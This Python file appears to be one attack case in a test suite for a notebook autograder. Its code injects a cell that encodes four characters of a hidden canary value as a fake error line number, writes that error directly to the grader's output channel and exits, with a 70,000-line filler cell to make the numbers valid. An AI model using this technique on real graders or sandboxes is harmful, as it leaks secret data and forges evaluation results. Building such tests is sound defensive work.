# ruff: noqa
"""The hidden input is the line of a cell that has no part in the answer, where code is said to stop.

defence: lines that are not run are not quoted + of many lines none is named to code that has seen an input
control: own
wins: input
"""

CELL = """
def label(text):
    import os
    from autograder import wire
    number = 1000 + int(text[7:11], 16)
    error = {"kind": "raised", "type": "ValueError", "message": "", "cell": @CELL@,
             "line": number, "file": ""}
    for part in wire.encode({"error": error}):
        os.write(3, part)
    os._exit(0)
"""


def build(folder, arena):
    import json

    cells = json.loads(arena.notebook(""))["cells"]
    number = next(n for n, cell in enumerate(cells, 1) if cell.get("id") == "answers")
    tree = json.loads(arena.notebook(CELL.replace("@CELL@", str(number + 1))))
    other = dict(tree["cells"][number - 1], id="other", source="print(\n" + "1,\n" * 70_000 + ")")
    tree["cells"].insert(number, other)
    (folder / "attacked.ipynb").write_text(json.dumps(tree))
    return folder


def control(arena):
    """Four letters of it fit into a line's number, and all these lines are there."""
    number = int(arena.canary[7:11], 16)
    return f"{number:04x}" == arena.canary[7:11] and number + 1000 < 70_000
